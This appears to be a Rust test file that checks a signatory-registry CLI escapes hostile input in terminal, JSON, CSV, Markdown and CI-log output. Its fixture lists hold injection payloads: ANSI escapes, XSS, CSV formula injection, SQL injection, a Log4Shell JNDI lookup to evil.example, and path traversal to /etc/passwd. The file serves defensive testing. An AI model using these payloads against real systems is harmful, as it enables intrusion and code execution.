//! What a stranger writes into a record reaches no reader as a command: every output, hostile text.

use crate::ground::Ground;
use crate::runner;
use serde_json::Value;

/// Values that would act if they were printed as they are; each is refused or made harmless.
pub const HOSTILE: &[&str] = &[
    "\u{1b}[2J\u{1b}[31mverified",
    "\u{9b}31m",
    "\u{1b}]8;;https://evil.example\u{7}click\u{1b}]8;;\u{7}",
    "\u{202e}deifirev",
    "\u{2066}x\u{2069}",
    "a\nb",
    "a\rb",
    "a\tb",
    "a\u{0}b",
    "a\u{85}b",
    "a\u{2028}b",
    "\u{feff}a",
    "a\u{200b}b",
    "::error file=x::y",
    "##[error]x",
    "%0A::error::x",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "`code` *bold* _it_ | cell",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\"; DROP TABLE signatories; --",
    "${jndi:ldap://evil.example}",
    "../../etc/passwd",
    "{{7*7}}",
];

/// What may be printed on a terminal: letters, and our own colours where they were asked for.
fn harmless(output: &str) -> bool {
    output
        .chars()
        .all(|character| character == '\n' || undersigned::base::escape::harmless(character))
}

/// A value in double quotes with every character but the plain ones escaped.
pub fn quoted(value: &str) -> String {
    let escaped: String = value
        .chars()
        .map(|character| match character {
            'a'..='z' | 'A'..='Z' | '0'..='9' | ' ' => character.to_string(),
            other => format!("\\U{:08X}", u32::from(other)),
        })
        .collect();
    format!("\"{escaped}\"")
}

fn ends(ground: &Ground, arguments: &[&str]) -> (i32, String) {
    let ran = ground.run(arguments);
    assert!(harmless(&ran.stdout), "{arguments:?}: {:?}", ran.stdout);
    assert!(harmless(&ran.stderr), "{arguments:?}: {:?}", ran.stderr);
    let output = ran.stdout + &ran.stderr;
    // A pull request is judged in a job whose log is obeyed.
    assert_eq!(runner::obeyed(&output), [""; 0], "{arguments:?}");
    (ran.code, output)
}

#[test]
fn no_field_of_a_record_reaches_the_terminal_unescaped() {
    let fields = [
        "id", "name", "names", "country", "website", "domain", "listings", "unknown",
    ];
    for value in HOSTILE {
        for field in fields {
            let ground = Ground::with_signatories();
            let hostile = format!("{field}: {}\n", quoted(value));
            ground.write(
                "registry/signatories/hostile.yaml",
                format!("{hostile}listings: []\n"),
            );
            for arguments in [
                &["verify"][..],
                &["verify", "--format", "json"],
                &["validate"],
                &["show", "hostile"],
            ] {
                let (code, _) = ends(&ground, arguments);
                assert_eq!(code, 1, "{field}: {value:?} {arguments:?}");
            }
        }
    }
}

#[test]
fn keys_and_raw_bytes_are_escaped_too() {
    for value in HOSTILE {
        let ground = Ground::with_signatories();
        ground.write(
            "registry/signatories/hostile.yaml",
            format!("{}: x\n", quoted(value)),
        );
        assert_eq!(ends(&ground, &["verify"]).0, 1, "{value:?}");
        ground.write(
            "registry/signatories/hostile.yaml",
            format!("name: {value}\n# {value}\nid: '{value}\n"),
        );
        assert_eq!(ends(&ground, &["verify"]).0, 1, "{value:?}");
        ground.write(
            "registry/letters/example-letter/letter.yaml",
            format!("title: {}\nauthentic: {}\n", quoted(value), quoted(value)),
        );
        assert_eq!(ends(&ground, &["verify"]).0, 1, "{value:?}");
        ground.write(
            "registry/registry.yaml",
            format!("origin: {}\ntitle: {}\n", quoted(value), quoted(value)),
        );
        assert_eq!(ends(&ground, &["verify"]).0, 1, "{value:?}");
    }
}

#[test]
fn arguments_and_files_are_escaped_too() {
    let ground = Ground::with_signatories();
    for value in HOSTILE.iter().filter(|value| !value.contains('\0')) {
        for arguments in [
            &["show", value][..],
            &["explain", value],
            &["verify", "--at", value],
            &["verify", value],
            &["identify", value],
        ] {
            // What the arguments' own parser refuses is its business; it prints what was typed.
            if !value.starts_with(['-', '+']) {
                assert!(ends(&ground, arguments).0 > 0, "{arguments:?}");
            }
        }
        ground.write("near.txt", format!("{}{value}\n", crate::ground::TEXT));
        assert_eq!(ends(&ground, &["identify", "near.txt"]).0, 1);
    }
}

/// Names that are lawful and would act in a page, a spreadsheet or a log.
const LAWFUL: &[&str] = &[
    "<script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    "=cmd|' /C calc'!A0",
    "+1+1 Forum",
    "-1+1 Forum",
    "@SUM(1)",
    "::error file=x::y",
    "##[error]x",
    "| a | b |",
    "1. Forum",
    "# Forum",
    "\"Forum\", \"x\"",
    "a`b*c_d~e",
    "www.forum.example and info@forum.example",
    "a``x@y.example`",
];

fn with_lawful_names() -> Ground {
    let ground = Ground::empty();
    ground.write("registry/registry.yaml", crate::ground::CHARTER);
    let text = format!("We ask for peace.\n\n{}\n", LAWFUL.join("\n"));
    ground.letter("example-letter", &[&text]);
    for (number, name) in LAWFUL.iter().enumerate() {
        ground.record(&format!("hostile-{number}"), name);
    }
    ground.commit("lawful names");
    let ran = ground.run(&["compile", "--output", "out"]);
    assert_eq!(ran.code, 0, "{}{}", ran.stdout, ran.stderr);
    ground
}

#[test]
fn no_lawful_name_is_a_command_in_a_log() {
    let ground = with_lawful_names();
    for arguments in [
        &["verify"][..],
        &["verify", "--verbose"],
        &["verify", "--color", "always"],
        &["verify", "--format", "json"],
        &["show", "hostile-7"],
        &["show", "hostile-8"],
        &["show", "hostile-8", "--format", "json"],
    ] {
        let ran = ground.run(arguments);
        assert_eq!(ran.code, 0);
        assert!(ran.stdout.contains("error"), "{arguments:?}");
        assert_eq!(runner::obeyed(&ran.stdout), [""; 0], "{arguments:?}");
    }
}

#[test]
fn every_format_holds_exactly_the_names() {
    let ground = with_lawful_names();
    let mut expected: Vec<&str> = LAWFUL.to_vec();
    expected.sort_unstable();
    let list: Value = serde_json::from_str(&ground.read("out/signatories.json")).unwrap();
    let rows = list["letters"][0]["signatories"].as_array().unwrap();
    let mut names: Vec<&str> = rows
        .iter()
        .map(|row| row["name"].as_str().unwrap())
        .collect();
    names.sort_unstable();
    assert_eq!(names, expected);
    let text = ground.read("out/signatories.txt");
    for name in LAWFUL {
        assert!(
            text.lines()
                .any(|line| line.strip_prefix("  ") == Some(*name)),
            "{name}"
        );
    }
}

#[test]
fn no_cell_is_a_formula_and_the_table_reads_back() {
    let ground = with_lawful_names();
    let csv = ground.read("out/signatories.csv");
    let csv = csv
        .strip_prefix('\u{feff}')
        .expect("a byte order mark for spreadsheets");
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let column = reader
        .headers()
        .unwrap()
        .iter()
        .position(|name| name == "name")
        .unwrap();
    let mut names = Vec::new();
    for row in reader.records() {
        let row = row.unwrap();
        for cell in &row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell}"
            );
        }
        let cell = &row[column];
        let undone = cell
            .strip_prefix('\'')
            .filter(|rest| rest.starts_with(['=', '+', '-', '@']));
        names.push(undone.unwrap_or(cell).to_owned());
    }
    let mut expected: Vec<String> = LAWFUL.iter().map(|name| (*name).to_owned()).collect();
    names.sort();
    expected.sort();
    assert_eq!(names, expected);
}

#[test]
fn a_page_made_of_the_markdown_holds_no_markup_of_a_stranger() {
    use pulldown_cmark::{Event, Parser, Tag};
    let ground = with_lawful_names();
    let page = ground.read("out/signatories.md");
    // Smart punctuation changes quotes on its own; what is looked for is markup.
    let options =
        pulldown_cmark::Options::all() - pulldown_cmark::Options::ENABLE_SMART_PUNCTUATION;
    let mut items = Vec::new();
    let mut item: Option<String> = None;
    for event in Parser::new_ext(&page, options) {
        match event {
            Event::Html(html) | Event::InlineHtml(html) => panic!("html: {html}"),
            Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => {
                panic!("link: {dest_url}")
            }
            Event::Start(Tag::Item) => {
                assert!(item.is_none(), "a list inside a list");
                item = Some(String::new());
            }
            Event::End(pulldown_cmark::TagEnd::Item) => items.extend(item.take()),
            Event::Text(text) => {
                // GitHub makes links of these without being asked, but not in code.
                for mark in ["www.", "://", "@"] {
                    assert!(!text.to_lowercase().contains(mark), "live link: {text}");
                }
                if let Some(item) = &mut item {
                    item.push_str(&text);
                }
            }
            Event::Code(text) => {
                if let Some(item) = &mut item {
                    item.push_str(&text);
                }
            }
            other => assert!(item.is_none(), "markup in a name: {other:?}"),
        }
    }
    items.sort();
    let mut expected = LAWFUL.to_vec();
    expected.sort_unstable();
    assert_eq!(items, expected);
}
